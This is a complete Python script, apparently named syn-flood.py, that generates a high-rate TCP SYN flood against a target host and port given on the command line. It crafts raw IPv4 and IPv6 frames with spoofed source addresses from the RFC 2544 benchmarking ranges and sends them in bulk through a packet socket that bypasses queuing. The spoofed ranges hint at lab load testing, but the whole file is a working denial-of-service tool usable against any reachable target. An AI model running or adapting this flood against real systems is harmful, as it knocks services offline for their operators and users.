"""SYNs from addresses that are nobody's, at a steady rate, from a packet socket.

syn-flood.py DEVICE LINK-ADDRESS TARGET PORT RATE SECONDS    prints how many were sent, and in how many milliseconds

Sources are 198.18.0.0/15 or 2001:2::/48 (RFC 2544, RFC 5180), in an order that does not repeat within six million SYNs. Each call
of the system sends what is due since the last, so that the generator itself costs little.
"""

import ctypes
import random
import socket
import struct
import sys
import time

FRAMES = 1 << 15
FIRST_PORT, PORTS = 64, 192
MOST_AT_ONCE = 512
OPTIONS = bytes([2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(link, draw, target, port):
    """A SYN whose source port and sequence number begin with bytes that sum up to 255, and may both be changed so."""
    is_v6 = ":" in target
    to = socket.inet_pton(socket.AF_INET6 if is_v6 else socket.AF_INET, target)
    if is_v6:
        source = socket.inet_pton(socket.AF_INET6, "2001:2::")[:8] + draw.randbytes(8)
    else:
        source = struct.pack("!I", 0xC6120000 | draw.getrandbits(17))
    head = struct.pack("!BBHBBHI", 0, draw.getrandbits(8), port, 255, draw.getrandbits(8), draw.getrandbits(16), 0)
    tcp = bytearray(head + struct.pack("!BBHHH", 10 << 4, 2, 64240, 0, 0) + OPTIONS)
    pseudo = source + to + struct.pack("!II", len(tcp), 6)
    struct.pack_into("!H", tcp, 16, checksum(pseudo + tcp))
    if is_v6:
        return link + b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, len(tcp), 6, 64) + source + to + tcp
    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + to)
    struct.pack_into("!H", ip, 10, checksum(ip))
    return link + b"\x08\x00" + ip + tcp


def main():
    device, link, target, port, rate, seconds = sys.argv[1:]
    rate, seconds = int(rate), float(seconds)
    draw = random.Random(7)
    own = open(f"/sys/class/net/{device}/address", encoding="ascii").read().strip()
    link = bytes.fromhex((link + own).replace(":", ""))
    frames = bytearray(b"".join(frame(link, draw, target, int(port)) for _ in range(FRAMES)))
    size = len(frames) // FRAMES
    ports = size - 40  # the TCP header with its options has 40 bytes
    buffer = (ctypes.c_char * len(frames)).from_buffer(frames)
    first = ctypes.addressof(buffer)
    vectors = ctypes.create_string_buffer(b"".join(struct.pack("QQ", first + at * size, size) for at in range(FRAMES)))
    vector = ctypes.addressof(vectors)
    messages = ctypes.create_string_buffer(
        b"".join(struct.pack("QQQQQQQQ", 0, 0, vector + 16 * at, 1, 0, 0, 0, 0) for at in range(FRAMES))
    )
    message = ctypes.addressof(messages)
    libc = ctypes.CDLL(None, use_errno=True)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    wire.bind((device, 0))
    began = time.monotonic()
    sent, turn = 0, -1
    while (now := time.monotonic() - began) < seconds:
        due = min(int(now * rate) - sent, MOST_AT_ONCE, FRAMES - sent % FRAMES)
        if due <= 0:
            time.sleep(0.0005)
            continue
        if sent // FRAMES != turn:
            turn = sent // FRAMES
            high = FIRST_PORT + turn % PORTS
            frames[ports::size] = bytes([high]) * FRAMES
            frames[ports + 4 :: size] = bytes([255 - high]) * FRAMES
        done = libc.sendmmsg(wire.fileno(), ctypes.c_void_p(message + 64 * (sent % FRAMES)), due, 0)
        # A device without room takes the rest later.
        sent += max(done, 0)
    print(sent, int((time.monotonic() - began) * 1000))


main()
